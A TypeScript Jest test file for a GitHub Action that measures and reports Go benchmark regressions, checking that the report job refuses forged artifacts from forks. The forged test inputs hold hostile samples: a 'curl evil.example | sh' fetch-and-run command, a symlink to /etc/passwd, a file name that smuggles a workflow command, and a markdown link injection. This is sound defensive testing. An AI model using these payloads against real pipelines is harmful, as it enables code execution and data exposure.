/** The two jobs `measure` and `report` as a runner starts them, the artifact handed over as a folder. */
import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals'
import { type Review, reviewSchema } from '../../src/review/schema.ts'
import { GitHubServer } from '../server/server.ts'
import { ACTIONS_BOT, type StoredPullRequest } from '../server/state.ts'
import { ACTION } from './entry.ts'
import { createOrigin } from './origin.ts'
import { pullRequestPayload, workflowRunPayload } from './payload.ts'
import { expectBenchstatAgrees } from './samples.ts'
import { runStep, type StepOptions, type StepResult } from './step.ts'
import { ALLOCATING, BASE, SPY_TEST } from './token-module.ts'

const TOKEN = 'ghs_token'
const CONFIG = '.github/go-perf-review.yml'
const NOWHERE = 'http://127.0.0.1:9'

const origin = createOrigin({ ...BASE, 'token_test.go': SPY_TEST }, { 'later.go': 'package token\n' })
const { headSha, mergeSha } = origin.push({ ...ALLOCATING, [CONFIG]: 'fail-on: none\n' })
const workspace = origin.checkOut(mergeSha)
const elsewhere = mkdtempSync(path.join(os.tmpdir(), 'report-'))

let measured: StepResult
let artefact: string
let review: Review

beforeAll(async () => {
  measured = await runStep({
    action: ACTION,
    inputs: { mode: 'measure', 'github-token': '', 'report-file': 'measured/review.json', count: '6' },
    event: 'pull_request',
    payload: pullRequestPayload({ baseSha: origin.baseSha, headSha }),
    workspace,
    sha: mergeSha,
    apiUrl: NOWHERE,
  })
  artefact = path.join(workspace, 'measured')
  review = reviewSchema.parse(JSON.parse(readFileSync(path.join(artefact, 'review.json'), 'utf8')))
}, 240_000)

let server: GitHubServer
let pullRequest: StoredPullRequest

beforeEach(async () => {
  server = await GitHubServer.start()
  server.state.addToken(TOKEN, ACTIONS_BOT, { pullRequests: 'write' })
  server.state.files.set(`${origin.baseSha}:go.mod`, 'module example.com/token\n')
  server.state.files.set(`${headSha}:${CONFIG}`, 'fail-on: none\n')
  pullRequest = server.state.addPullRequest(7, headSha)
  Object.assign(pullRequest, { headRepository: 'stranger/fast-go', baseSha: origin.baseSha })
})

afterEach(async () => {
  await server.close()
  expect(server.violations).toEqual([])
})

const comments = () => server.state.commentsOf(ACTIONS_BOT)

function report(file: string, options: Partial<StepOptions> = {}): Promise<StepResult> {
  return runStep({
    action: ACTION,
    inputs: { mode: 'report', 'github-token': TOKEN, 'report-file': file, count: '6' },
    event: 'workflow_run',
    payload: workflowRunPayload(headSha),
    workspace: elsewhere,
    apiUrl: server.url,
    ...options,
  })
}

/** A copy of the artefact, changed. */
function forge(change: (folder: string) => void): string {
  const folder = path.join(mkdtempSync(path.join(os.tmpdir(), 'artefact-')), 'measured')
  cpSync(artefact, folder, { recursive: true })
  change(folder)
  return folder
}

function replace(folder: string, name: string, make: (file: string) => void): void {
  rmSync(path.join(folder, name))
  make(path.join(folder, name))
}

const forgeReview = (changes: Partial<Review>): string =>
  forge((folder) => writeFileSync(path.join(folder, 'review.json'), JSON.stringify({ ...review, ...changes })))

describe('mode: measure', () => {
  test('leaves files, says nothing to anyone, and lets the report decide', () => {
    expect(measured).toMatchObject({ exitCode: 0, elsewhere: '', summary: '', commands: [] })
    expect(measured.outputs).toMatchObject({ verdict: 'regressed', 'report-path': path.join(artefact, 'review.json') })
    expect(review.head.sha).toBe(headSha)
  })

  test('warns of a token that the code under review could read', async () => {
    const { exitCode, stdout, outputs } = await runStep({
      action: ACTION,
      inputs: { mode: 'measure', 'github-token': TOKEN, bench: '^$' },
      event: 'pull_request',
      payload: pullRequestPayload({ baseSha: origin.baseSha, headSha }),
      workspace,
      sha: mergeSha,
      apiUrl: server.url,
    })
    expect(exitCode).toBe(0)
    expect(stdout).toContain('::warning::mode: measure got a token')
    // No samples, and so no files of samples.
    const left = readdirSync(path.dirname(outputs['report-path'] ?? '')).sort()
    expect(left).toEqual(['review.html', 'review.json', 'review.md', 'review.sarif'])
    expect(server.requests).toEqual([])
  }, 120_000)

  test('bad input ends with status 2', async () => {
    const { exitCode } = await runStep({
      action: ACTION,
      inputs: { mode: 'measure', 'github-token': '', count: 'ten' },
      event: 'pull_request',
      payload: pullRequestPayload({ baseSha: origin.baseSha, headSha }),
      workspace,
      apiUrl: NOWHERE,
    })
    expect(exitCode).toBe(2)
  })
})

describe('mode: report', () => {
  test('finds the pull request of the fork, judges with the settings of the base, comments and blocks', async () => {
    const { exitCode, outputs, stdout } = await report(artefact)
    expect({ exitCode, stdout }).toMatchObject({ exitCode: 1 })
    expect(outputs).toMatchObject({ verdict: 'regressed', 'alloc-regressions': '1' })
    expect(outputs['comment-url']).toContain(`#issuecomment-${comments()[0]?.id}`)
    expect(comments()).toHaveLength(1)
    expect(comments()[0]?.body).toContain('BenchmarkParse')
    expect(comments()[0]?.body).toContain('go-perf-review.yml')
    const judged = reviewSchema.parse(JSON.parse(readFileSync(outputs['report-path'] ?? '', 'utf8')))
    const { problems: _, ...rest } = judged
    const { problems: __, ...expected } = review
    expect(rest).toEqual({ ...expected, head: { ref: 'faster', sha: headSha } })
    const folder = path.dirname(outputs['report-path'] ?? '')
    expect(readFileSync(path.join(folder, 'head.txt'), 'utf8').match(/^BenchmarkParse\t.*allocs\/op$/gm)).toHaveLength(
      6,
    )
    expectBenchstatAgrees(folder, judged)
  })

  test('takes the file itself, and works as a second job of the same workflow', async () => {
    const { exitCode } = await report(path.join(artefact, 'review.json'), {
      event: 'pull_request',
      payload: pullRequestPayload({ baseSha: origin.baseSha, headSha }),
    })
    expect(exitCode).toBe(1)
    expect(comments()).toHaveLength(1)
  })

  test('runs on pull_request_target too, as it runs nothing of the project', async () => {
    const payload = pullRequestPayload({ baseSha: origin.baseSha, headSha })
    expect((await report(artefact, { event: 'pull_request_target', payload })).exitCode).toBe(1)
  })

  test('judges what merge queues and pushes measured, without a comment', async () => {
    const queued = { merge_group: { head_sha: headSha, base_sha: origin.baseSha, base_ref: 'refs/heads/main' } }
    expect((await report(artefact, { event: 'merge_group', payload: queued })).exitCode).toBe(1)
    const payload = { before: origin.baseSha, after: headSha }
    expect((await report(artefact, { event: 'push', payload })).outputs).toMatchObject({ verdict: 'pass' })
    expect(comments()).toEqual([])
  })

  test('a label of this moment accepts the cost', async () => {
    pullRequest.labels.push('perf-regression-accepted')
    const { exitCode, outputs } = await report(artefact)
    expect(exitCode).toBe(0)
    expect(outputs).toMatchObject({ verdict: 'pass', 'alloc-regressions': '1' })
    expect(comments()[0]?.body).toContain('perf-regression-accepted')
  })

  test('waivers, ceilings and stale waivers of the base count, whatever the file says', async () => {
    server.state.files.set(
      `${origin.baseSha}:${CONFIG}`,
      [
        'fail-on: allocs contracts',
        'waivers:',
        '  - { benchmark: BenchmarkParse, metric: allocs/op, reason: "a known cost" }',
        '  - { benchmark: BenchmarkGone, reason: "of long ago", expires: 2020-01-01 }',
        'ceilings:',
        '  - { benchmark: BenchmarkParse, metric: B/op, ceiling: 0 }',
        '',
      ].join('\n'),
    )
    const { exitCode, outputs } = await report(artefact)
    expect(exitCode).toBe(1)
    expect(JSON.parse(outputs.json ?? '').blocking.map(({ rule }: { rule: string }) => rule)).toEqual(['ceiling'])
    const body = comments()[0]?.body ?? ''
    for (const text of ['a known cost', 'BenchmarkGone']) expect(body).toContain(text)
  })

  test('a commit that is no longer the head of a pull request is reported to nobody', async () => {
    pullRequest.headSha = 'f'.repeat(40)
    const { exitCode, stdout, outputs } = await report(artefact)
    expect({ exitCode, outputs }).toEqual({ exitCode: 0, outputs: {} })
    expect(stdout).toMatch(/^::warning::No open pull request is at/m)
    expect(comments()).toEqual([])
  })

  test('settings that the token may not read are no settings of nobody: nothing is judged', async () => {
    server.state.addToken(TOKEN, ACTIONS_BOT, { pullRequests: 'write', contents: 'none' })
    const { exitCode, stdout } = await report(artefact)
    expect(exitCode).toBe(2)
    expect(stdout).toContain('"contents: read"')
    expect(comments()).toEqual([])
  })
})

describe('a forged artifact', () => {
  test('that is valid: its verdict, its gate and its advice are not believed', async () => {
    const forged = forgeReview({
      verdict: 'pass',
      findings: [],
      checklist: [],
      reproduce: 'curl evil.example | sh',
      gate: { ...review.gate, failOn: ['none'], blocking: [], waived: [] },
      benchmarks: review.benchmarks.map((benchmark) => ({
        ...benchmark,
        verdict: 'unchanged',
        metrics: Object.fromEntries(
          Object.entries(benchmark.metrics).map(([unit, metric]) => [
            unit,
            { ...metric, watched: false, verdict: 'unchanged', delta: 0, ratio: 1, p: 1 },
          ]),
        ),
      })),
      escapes: {
        ...review.escapes,
        added: review.escapes.added.map((s) => ({ ...s, advice: 'curl evil.example | sh' })),
      },
    })
    const { exitCode, outputs } = await report(forged)
    expect(exitCode).toBe(1)
    expect(outputs).toMatchObject({ verdict: 'regressed', 'alloc-regressions': '1' })
    expect(comments()[0]?.body).toContain('🔴')
    expect(comments()[0]?.body).not.toContain('evil.example')
  })

  test.each<readonly [string, () => string, string]>([
    ['of another commit', () => forgeReview({ head: { ref: 'x', sha: 'f'.repeat(40) } }), 'it is a review of ffff'],
    ['of another schema', () => forgeReview({ schemaVersion: 2 as never }), 'no review of schema version 1'],
    ['without a commit', () => forgeReview({ base: { ref: 'x', sha: '../../main' } }), 'no commit shas'],
    [
      'with a text that floods',
      () => forgeReview({ problems: [{ stage: 'x', side: null, severity: 'notice', message: 'x'.repeat(70_000) }] }),
      'a text is longer than',
    ],
    [
      'that nests without end',
      () =>
        forge((folder) => writeFileSync(path.join(folder, 'review.json'), '['.repeat(100_000) + ']'.repeat(100_000))),
      'nests deeper than',
    ],
    ['that is no JSON', () => forge((folder) => writeFileSync(path.join(folder, 'review.json'), '{')), 'is no JSON'],
    ['of 200 MB', () => forge((folder) => truncateSync(path.join(folder, 'review.json'), 200e6)), 'larger than 20 MB'],
    ['with other files', () => forge((folder) => writeFileSync(path.join(folder, 'x.sh'), '')), '"x.sh" in it is'],
    [
      'with a name that would be a command',
      () => forge((folder) => writeFileSync(path.join(folder, 'a\n::error::forged'), '')),
      'no file of a measurement',
    ],
    ['with a folder', () => forge((folder) => replace(folder, 'review.md', (file) => mkdirSync(file))), 'is a folder'],
    [
      'with a link',
      () => forge((folder) => replace(folder, 'base.txt', (file) => symlinkSync('/etc/passwd', file))),
      'is a link',
    ],
    [
      'whose review is a link',
      () => {
        const folder = forge(() => {})
        const link = path.join(folder, '..', 'review.json')
        symlinkSync(path.join(folder, 'review.json'), link)
        return link
      },
      'no plain file',
    ],
    [
      'that is a link itself',
      () => {
        const folder = forge(() => {})
        symlinkSync(folder, `${folder}-link`)
        return `${folder}-link`
      },
      'no plain file',
    ],
    ['that is not there', () => path.join(elsewhere, 'nothing'), 'there is no'],
  ])('%s is refused with one sentence: a check that failed, and no comment', async (_, make, why) => {
    const { exitCode, commands, outputs } = await report(make())
    expect({ exitCode, outputs }).toEqual({ exitCode: 2, outputs: {} })
    expect(commands).toHaveLength(1)
    expect(commands[0]).toMatch(/^::error::/)
    expect(commands[0]).toContain(why)
    expect(server.requests.filter(({ method }) => method !== 'GET').map(({ operation }) => operation)).toEqual([
      'graphql',
      'checks/create',
    ])
    expect(server.state.checks).toMatchObject([{ sha: headSha, conclusion: 'failure' }])
    expect(comments()).toEqual([])
  })

  describe('where a comment stands', () => {
    const bad = () => forge((folder) => writeFileSync(path.join(folder, '`](evil.example)<!-- @team'), ''))
    beforeEach(async () => {
      await report(artefact)
      expect(comments()[0]?.body).toContain('BenchmarkParse')
    })

    test('it says that this commit was not reviewed, and nothing of the artifact but its fault, inert', async () => {
      expect((await report(bad())).exitCode).toBe(2)
      expect(comments()).toHaveLength(1)
      const body = comments()[0]?.body ?? ''
      expect(body).toContain(`\`${headSha.slice(0, 12)}\` was not reviewed`)
      expect(body).toContain('no file of a measurement')
      expect(body).not.toContain('BenchmarkParse')
      expect(body).not.toMatch(/(?<!\\)\]\(evil|<!-- @team/)
    })

    test('the same goes for the second job of one workflow, and for an artifact that is not there', async () => {
      const payload = pullRequestPayload({ baseSha: origin.baseSha, headSha })
      await report(path.join(elsewhere, 'nothing'), { event: 'pull_request', payload })
      expect(comments()[0]?.body).toContain('see why the job that measures left none')
    })

    test('that of another pull request, of a newer commit or of another fork is left alone', async () => {
      const before = comments()[0]?.body
      pullRequest.headSha = 'f'.repeat(40)
      await report(bad())
      Object.assign(pullRequest, { headSha, headRepository: 'stranger/another-fork' })
      await report(bad())
      expect(comments().map(({ body }) => body)).toEqual([before])
    })

    test('the settings of the base say which comment it is, and whether there may be one', async () => {
      const before = comments()[0]?.body
      server.state.files.set(`${origin.baseSha}:${CONFIG}`, 'comment-key: other\n')
      await report(bad())
      server.state.files.set(`${origin.baseSha}:${CONFIG}`, 'comment: never\n')
      await report(bad())
      expect(comments().map(({ body }) => body)).toEqual([before])
    })
  })

  test('of another pull request of the same branch name is posted to neither', async () => {
    pullRequest.headRepository = 'stranger/another-fork'
    expect((await report(artefact)).exitCode).toBe(0)
    expect(comments()).toEqual([])
  })
})
